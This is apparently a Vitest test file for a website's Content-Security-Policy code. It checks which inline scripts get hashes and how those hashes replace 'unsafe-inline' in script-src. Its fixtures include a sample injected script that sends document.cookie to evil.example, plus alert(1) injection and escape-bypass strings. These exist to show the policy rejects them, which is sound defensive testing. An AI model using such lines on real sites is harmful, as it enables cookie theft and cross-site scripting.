// Hashing a document's inline scripts for its Content-Security-Policy (lib/csp-inline.mjs): which scripts get
// a hash, and how the hashes go into the policy the single builder wrote.
import { createHash } from "node:crypto";

import { describe, expect, it } from "vitest";

import { contentSecurityPolicy, scriptHash } from "@/lib/content-security-policy";
import {
  allowsInlineScripts,
  cspHash,
  frameworkRuntimeScripts,
  inlineScripts,
  isInstructionCall,
  isPayloadScript,
  trustedInlineScriptHashes,
  withScriptHashes,
} from "@/lib/csp-inline.mjs";

const sha256 = (text: string) => `'sha256-${createHash("sha256").update(text, "utf8").digest("base64")}'`;
const THEME = '((a,b)=>{document.documentElement.classList.add(b)})("class","dark")';
const RX = "$RX=function(b,c){var a=document.getElementById(b);a&&(a.dataset.dgst=c)};";
const payload = (text: string) => `self.__next_f.push([1,${JSON.stringify(text).replace(/</g, "\\u003c")}])`;
const scriptSrc = (policy: string) => policy.split("; ").find((directive) => directive.startsWith("script-src "))!.split(" ").slice(1);

describe("inline scripts of a document", () => {
  it("finds the inline scripts and skips src scripts, nonce'd scripts, JSON-LD and empty tags", () => {
    const html = [
      '<script src="/_next/static/chunks/a.js" async=""></script>',
      '<script nonce="abc">self.__next_f.push([0])</script>',
      '<script type="application/ld+json">{"@context":"https://schema.org"}</script>',
      "<script></script>",
      `<script>${THEME}</script>`,
      `<script id="consent-defaults">window.dataLayer=[]</script>`,
      '<script type="module">go()</script>',
    ].join("");
    expect(inlineScripts(html)).toEqual([THEME, "window.dataLayer=[]", "go()"]);
  });

  it("hashes a script's text as the browser does (SHA-256, base64, line breaks as the parser leaves them)", () => {
    expect(cspHash("alert(1)")).toBe(sha256("alert(1)"));
    expect(cspHash(THEME)).toBe(scriptHash(THEME));
    expect(inlineScripts("<script>a()\r\nb()\rc()</script>")).toEqual(["a()\nb()\nc()"]);
  });

  it("recognises the RSC payload pushes as data, and nothing that runs code beside them", () => {
    expect(isPayloadScript(payload('0:{"P":null,"b":"x"}\n'))).toBe(true);
    expect(isPayloadScript(payload("</script><script>alert(1)</script>"))).toBe(true); // escaped, a string only
    expect(isPayloadScript("self.__next_f.push([2,null])")).toBe(true);
    expect(isPayloadScript('self.__next_f.push([1,"x"]);alert(1)')).toBe(false);
    expect(isPayloadScript('self.__next_f.push([1,"x"+alert(1)])')).toBe(false);
    // An escaped quote stays inside the string; an escaped backslash before the quote ends it.
    expect(isPayloadScript('self.__next_f.push([1,"x\\"]);alert(1);//"])')).toBe(true);
    expect(isPayloadScript('self.__next_f.push([1,"x\\\\"]);alert(1);//"])')).toBe(false);
    expect(isPayloadScript('self.__next_f.push([1,"line\nbreak"])')).toBe(false);
    expect(isPayloadScript("(self.__next_f=self.__next_f||[]).push([0])")).toBe(false); // a known script, not data
    expect(isInstructionCall('$RC("B:0","S:0")')).toBe(true);
    expect(isInstructionCall('$RX("B:1",null,"message")')).toBe(true);
    expect(isInstructionCall('$RC("B:0",alert(1))')).toBe(false);
    expect(isInstructionCall('$RC("B:0");alert(1)')).toBe(false);
  });

  it("trusts payload data, the build's known scripts and React's instructions; anything else gets no hash", () => {
    const injected = "fetch('https://evil.example/'+document.cookie)";
    const known = new Set([cspHash(THEME), cspHash(RX)]);
    const html = [
      `<script>${THEME}</script>`,
      `<script>${payload("1:data")}</script>`,
      `<script>${payload("1:data")}</script>`,
      `<script>${RX}$RX("B:0","digest")</script>`,
      `<script>${injected}</script>`,
      `<script>alert(1);$RX("B:0","digest")</script>`,
      '<script type="application/ld+json">{"a":1}</script>',
    ].join("");
    const { hashes, untrusted } = trustedInlineScriptHashes(html, known);
    expect(hashes.sort()).toEqual([cspHash(THEME), cspHash(payload("1:data")), cspHash(`${RX}$RX("B:0","digest")`)].sort());
    expect(hashes).not.toContain(cspHash(injected));
    expect(untrusted).toBe(2);
  });
});

describe("React's runtime in front of its first instruction", () => {
  const RB = "$RB=[];";
  const RC = "$RC=function(a,b){a=document.getElementById(a);b=document.getElementById(b);a.replaceWith(b)};";
  const call = '$RC("B:0","S:0")';

  it("is trusted when the text before the call is React's own definitions, one after another", () => {
    const html = `<script>${RB}${RC}${call}</script><script>${RC}${call}</script>`;
    const { hashes, untrusted } = trustedInlineScriptHashes(html, new Set(), [RC, RB]);
    expect(hashes).toEqual([cspHash(`${RB}${RC}${call}`), cspHash(`${RC}${call}`)]);
    expect(untrusted).toBe(0);
  });

  it("is refused when anything else comes before or between the definitions", () => {
    for (const script of [`alert(1);${RB}${RC}${call}`, `${RB}alert(1);${RC}${call}`, `${RB}${RC}alert(1);${call}`, `${RB}${RC}`]) {
      expect(trustedInlineScriptHashes(`<script>${script}</script>`, new Set(), [RB, RC]), script).toEqual({ hashes: [], untrusted: 1 });
    }
    // Without the definitions given, the same script is refused too.
    expect(trustedInlineScriptHashes(`<script>${RB}${RC}${call}</script>`, new Set()).untrusted).toBe(1);
  });
});

describe("the framework's run-time scripts, from its compiled renderer", () => {
  it("reads React's instruction functions (escapes decoded, a trailing call start cut) and Next's constant snippets", () => {
    const source = [
      `var a=s('$RS=function(a,b){a.x="\\x3c"};$RS("'),b=s("$RX=function(b){b.y='z'};"),c="$RB=[];$RC=function(){}";`,
      "function iT(e){return`<script${e?` nonce=\"${q(e)}\"`:\"\"}>document.head.appendChild(el)</script>`}",
      'var notOurs="$notADefinition",alsoNot="<script>x</script>";',
    ].join("\n");
    const { definitions, scripts } = frameworkRuntimeScripts(source);
    expect(definitions).toEqual(['$RS=function(a,b){a.x="<"};', "$RX=function(b){b.y='z'};", "$RB=[];$RC=function(){}"]);
    expect(scripts).toEqual(["document.head.appendChild(el)"]);
  });
});

describe("hashes in the policy", () => {
  const staticPolicy = contentSecurityPolicy({ isDev: false, nonce: null, adsAllowed: false });
  const withAds = contentSecurityPolicy({ isDev: false, nonce: null, adsAllowed: true });

  it("replace 'unsafe-inline' in script-src and leave every other directive as the builder wrote it", () => {
    expect(allowsInlineScripts(staticPolicy)).toBe(true);
    const rewritten = withScriptHashes(staticPolicy, [cspHash("a()"), cspHash("b()")]);
    expect(scriptSrc(rewritten)).toEqual(["'self'", cspHash("a()"), cspHash("b()")]);
    expect(allowsInlineScripts(rewritten)).toBe(false);
    expect(rewritten.split("; ").filter((d) => !d.startsWith("script-src "))).toEqual(staticPolicy.split("; ").filter((d) => !d.startsWith("script-src ")));
    expect(rewritten).toContain("style-src 'self' 'unsafe-inline'");
  });

  it("keep the ad network's hosts exactly when the builder put them in (consent), and never add them", () => {
    expect(scriptSrc(withScriptHashes(withAds, [cspHash("a()")]))).toEqual(["'self'", cspHash("a()"), "https://pagead2.googlesyndication.com", "https://tpc.googlesyndication.com"]);
    expect(withScriptHashes(staticPolicy, [cspHash("a()")])).not.toMatch(/googlesyndication|doubleclick/);
  });

  it("with no trusted script, leave script-src at 'self' only", () => {
    expect(scriptSrc(withScriptHashes(staticPolicy, []))).toEqual(["'self'"]);
  });

  it("join a nonce-based policy's sources without duplicates", () => {
    const strict = contentSecurityPolicy({ isDev: false, nonce: "bm9uY2U=", adsAllowed: false, frameworkScriptHashes: [cspHash("a()")] });
    const sources = scriptSrc(withScriptHashes(strict, [cspHash("a()"), cspHash("b()")]));
    expect(sources[0]).toBe("'self'");
    expect(sources).toContain("'nonce-bm9uY2U='");
    expect(sources.filter((source) => source === cspHash("a()"))).toHaveLength(1);
    expect(sources).toContain(cspHash("b()"));
    expect(sources).not.toContain("'unsafe-inline'");
  });
});
